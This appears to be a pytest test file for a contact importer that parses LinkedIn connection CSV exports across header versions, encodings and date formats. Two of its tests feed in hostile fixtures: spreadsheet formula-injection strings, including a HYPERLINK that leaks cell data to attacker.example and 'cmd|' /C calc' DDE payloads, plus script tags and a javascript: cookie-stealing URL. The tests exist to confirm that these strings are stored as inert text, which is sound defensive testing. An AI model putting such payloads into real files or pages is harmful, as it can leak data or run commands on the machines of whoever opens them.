"""LinkedIn Connections.csv, as downloaded and after Excel re-saved it."""

from __future__ import annotations

import pytest

from leadnet_helpers.importers import parse_bytes


def test_every_connection_comes_through(parse_shared):
    parsed = parse_shared("linkedin_connections.csv")
    assert parsed.format == "linkedin"
    assert parsed.format_label == "LinkedIn connections export"
    assert len(parsed.records) == 42
    assert len(parsed.contacts) == 42
    # the preamble is three lines and the header is line 4
    assert parsed.records[0].line == 5
    assert parsed.records[-1].line == 46


def test_zoe_keeps_her_accents_company_role_and_lowercased_email(parse_shared, person):
    zoe = person(parse_shared("linkedin_connections.csv"), "Zoë Ångström")
    assert zoe.organisation == "Nordlys Energi AS"
    assert zoe.role == "Head of Strategy"
    assert zoe.email == "zoe.angstrom@nordlys.example"
    assert zoe.emails == ("zoe.angstrom@nordlys.example",)
    assert zoe.linkedin_url == "https://www.linkedin.com/in/zoe-angstrom-4b1a7c"
    assert zoe.extra["connected_on"] == "2025-03-14"
    assert zoe.source == "linkedin"


def test_quoted_commas_and_trailing_spaces(parse_shared, person):
    parsed = parse_shared("linkedin_connections.csv")
    assert person(parsed, "Priya Raman, PhD").organisation == "Northwind Analytics"
    assert person(parsed, "Liam O'Connor").role == "Director, Partnerships"
    assert person(parsed, "Oliver Bennett").role == '"The Fixer" – Interim CFO'
    assert person(parsed, "Ethan Brooks").organisation == "Fourth Coffee"  # "Ethan " trimmed


def test_people_with_the_same_name_stay_separate(parse_shared):
    parsed = parse_shared("linkedin_connections.csv")
    kims = [c for _, c in parsed.contacts if c.name == "Alex Kim"]
    assert [k.organisation for k in kims] == ["Fabrikam, Inc.", "Blue Yonder Airlines"]


def test_excel_resave_semicolons_cp1252_no_preamble_day_first(parse_data, person):
    parsed = parse_data("linkedin_excel_semicolon_cp1252.csv")
    assert parsed.format == "linkedin"
    assert parsed.encoding == "cp1252"
    assert len(parsed.records) == 3  # the ";;;;;;" row is blank, not a record
    zoe = person(parsed, "Zoë Ångström")
    assert zoe.extra["connected_on"] == "2025-03-14"
    assert person(parsed, "José Müller").organisation == "Fabrikam; Inc."
    renee = person(parsed, "Renée Thibault")
    assert renee.extra["connected_on"] == "2025-01-05"  # 5/1: the file writes day first
    assert renee.linkedin_url == "https://www.linkedin.com/in/renee-t"


def test_excel_resave_tabs_mangled_preamble_month_first(parse_data, person):
    parsed = parse_data("linkedin_excel_tab_mangled.csv")
    assert parsed.format == "linkedin"
    assert [r.line for r in parsed.records] == [5, 6, 7]
    assert person(parsed, "Aisha Bello").extra["connected_on"] == "2025-03-14"
    assert person(parsed, "Dmitri Volkov").extra["connected_on"] == "2024-12-01"


def test_a_date_we_cannot_read_is_kept_with_a_warning(parse_data):
    parsed = parse_data("linkedin_excel_tab_mangled.csv")
    liam = parsed.records[2]
    assert liam.contact is not None and liam.contact.extra["connected_on"] == "sometime"
    assert any("sometime" in w for w in liam.warnings)


def test_formula_text_is_kept_exactly(parse_shared, person):
    parsed = parse_shared("hostile_formula_injection.csv")
    assert len(parsed.records) == 7 and len(parsed.contacts) == 7
    names = [c.name for _, c in parsed.contacts]
    assert '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for bonus") Smith' in names
    assert "Jane +cmd|' /C calc'!A0" in names
    mark = person(parsed, "Mark Doe")
    assert mark.organisation == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert mark.role == "=1+1"


def test_html_is_kept_exactly_and_javascript_is_not_a_linkedin_url(parse_shared, person):
    parsed = parse_shared("hostile_html_injection.csv")
    assert len(parsed.records) == 6 and len(parsed.contacts) == 6
    mallory = person(parsed, "<script>alert(1)</script> Mallory")
    assert mallory.organisation == "Evil Corp"
    assert person(parsed, "Tom Jerry").organisation == "Tom & Jerry's <Bistro>"
    victor_record = next(r for r in parsed.records if r.contact and r.contact.name == "Victor Link")
    assert victor_record.contact.linkedin_url == ""
    assert victor_record.contact.extra["url"] == "javascript:alert(document.cookie)"
    assert any("not a LinkedIn profile address" in w for w in victor_record.warnings)


def test_a_row_without_a_name_is_rejected_with_the_reason():
    data = (
        b"First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
        b",,https://www.linkedin.com/in/ghost,,Ghost Ltd,,01 Jan 2025\n"
        b"Ada,Brooks,,,,,\n"
    )
    parsed = parse_bytes(data, "Connections.csv")
    ghost, ada = parsed.records
    assert ghost.contact is None and ghost.line == 2
    assert ghost.problem.startswith("no name") and "Ghost Ltd" in ghost.problem
    assert ada.contact is not None and ada.contact.name == "Ada Brooks"


@pytest.mark.parametrize(
    "head",
    [
        # 2018: no URL column
        "First Name,Last Name,Email Address,Company,Position,Connected On\n",
        # 2021: Email Address before Company
        "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n",
        # today: the Notes: preamble, then the header
        (
            'Notes:\n"When exporting your connection data, you may notice that some of the email '
            "addresses are missing. You will only see email addresses for connections who have "
            "allowed their connections to see or download their email address using this setting "
            "https://www.linkedin.com/psettings/privacy/email. You can learn more here "
            'https://www.linkedin.com/help/linkedin/answer/261"\n\n'
            "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
        ),
    ],
    ids=["2018", "2021", "today"],
)
def test_every_header_generation_is_recognised(head):
    cells = {
        "First Name": "Ada",
        "Last Name": "Brooks",
        "URL": "https://www.linkedin.com/in/ada",
        "Email Address": "ada@r.example",
        "Company": "Riverside",
        "Position": "Ward Sister",
        "Connected On": "14 Mar 2025",
    }
    columns = head.strip().splitlines()[-1].split(",")
    data = (head + ",".join(cells[c] for c in columns) + "\n").encode()
    parsed = parse_bytes(data, "Connections.csv")
    assert parsed.format == "linkedin"
    (record,) = parsed.records
    contact = record.contact
    assert (contact.name, contact.email, contact.organisation, contact.role) == (
        "Ada Brooks",
        "ada@r.example",
        "Riverside",
        "Ward Sister",
    )
    assert contact.extra == {"connected_on": "2025-03-14"}


@pytest.mark.parametrize(
    "written",
    [
        "14 Mar 2025",
        "1 mar 2025",
        "01 MAR 2025",
        "29 Feb 2024",
        "29 Feb 2025",  # no such day
        "31 Apr 2025",
        "0 Mar 2025",
        "14 Foo 2025",
        "14 Sept 2025",
        "14 May 0000",
        "14  Mar 2025",
        "14-Mar-2025",
    ],
)
def test_linkedin_dates_read_as_the_date_reader_reads_them(written):
    # LinkedIn's "14 Mar 2025" is read without strptime for each date; the day, or
    # the warning for a date we cannot read, is the one the date reader gives.
    from leadnet_helpers.errors import LeadNetError
    from leadnet_helpers.importers.linkedin import _TEXT_FORMATS, iso_date
    from leadnet_helpers.rules import parse_date

    try:
        expected = parse_date(written, formats=_TEXT_FORMATS).isoformat()
    except LeadNetError:
        expected = ""
    assert iso_date(written) == expected
